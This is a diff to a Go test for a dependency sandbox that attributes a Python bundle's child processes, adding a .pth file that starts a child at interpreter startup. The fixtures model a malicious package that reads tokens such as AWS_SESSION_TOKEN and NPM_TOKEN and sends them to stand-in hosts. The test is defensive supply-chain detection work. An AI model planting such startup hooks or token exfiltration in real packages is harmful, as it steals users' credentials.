@@ -24,14 +24,14 @@ func childCode(name, host, addr string, port int) string {
 }
 
 // TestPythonChildAttribution runs, in the real sandbox, a Python bundle
-// whose distribution starts `python -c` children at import (subprocess,
-// and os.fork + os.execv) and when the handler calls it (os.system, so a
-// shell between), and whose handler starts one of its own
-// (os.posix_spawn). A child's code is no file of the bundle, so its hook
+// whose distribution starts `python -c` children from its .pth file
+// (startup), at import (subprocess, and os.fork + os.execv) and when the
+// handler calls it (os.system, so a shell between), and whose handler
+// starts one of its own (os.posix_spawn). A child's code is no file of the bundle, so its hook
 // names nobody; the process tree names whoever started it: the
 // distribution's children's environment reads, DNS names, connections and
-// canaries are the distribution's, in the import phase and in the invoke
-// phase, and none of them the function's; the handler's child is the
+// canaries are the distribution's, in the startup, import and invoke
+// phases, and none of them the function's; the handler's child is the
 // function's own, not unattributed.
 func TestPythonChildAttribution(t *testing.T) {
 	requirePython(t)
@@ -40,6 +40,7 @@ func TestPythonChildAttribution(t *testing.T) {
 	forked := childCode("DATABASE_URL", "fork.kid.invalid", "192.0.2.11", 1337)
 	called := childCode("NPM_TOKEN", "call.kid.invalid", "198.51.100.10", 9001)
 	own := childCode("GITHUB_TOKEN", "fn.kid.invalid", "203.0.113.10", 5555)
+	atStartup := childCode("AWS_SESSION_TOKEN", "pth.kid.invalid", "192.0.2.13", 6666)
 	dir := writeTree(t, map[string]string{
 		"kid/__init__.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
 			"import os, shlex, subprocess, sys\n" +
@@ -52,7 +53,8 @@ func TestPythonChildAttribution(t *testing.T) {
 			"def work():\n" +
 			"    os.system(shlex.join([sys.executable, '-c', " + fmt.Sprintf("%q", called) + "]))\n",
 		dist + "/METADATA": "Metadata-Version: 2.1\nName: kid\nVersion: 1.0\n",
-		dist + "/RECORD":   "kid/__init__.py,,\n" + dist + "/METADATA,,\n" + dist + "/RECORD,,\n",
+		"kid-startup.pth":  "import subprocess, sys; subprocess.run([sys.executable, '-c', " + fmt.Sprintf("%q", atStartup) + "], timeout=10)\n",
+		dist + "/RECORD":   "kid/__init__.py,,\nkid-startup.pth,,\n" + dist + "/METADATA,,\n" + dist + "/RECORD,,\n",
 		"lambda_function.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
 			"import os, sys\nimport kid\n\n" +
 			"def lambda_handler(event, context):\n" +
@@ -75,6 +77,7 @@ func TestPythonChildAttribution(t *testing.T) {
 		b     *profile.Behavior
 		theft []sent
 	}{
+		{dist + " startup", phaseOf(t, p, dist, profile.PhaseStartup), []sent{{"AWS_SESSION_TOKEN", "pth.kid.invalid", "192.0.2.13:6666"}}},
 		{dist + " import", phaseOf(t, p, dist, profile.PhaseImport), imported},
 		{dist + " invoke", phaseOf(t, p, dist, profile.PhaseInvoke), append(slices.Clone(imported), sent{"NPM_TOKEN", "call.kid.invalid", "198.51.100.10:9001"})},
 		{"the function's invoke", p.App.Phases[profile.PhaseInvoke], []sent{{"GITHUB_TOKEN", "fn.kid.invalid", "203.0.113.10:5555"}}},
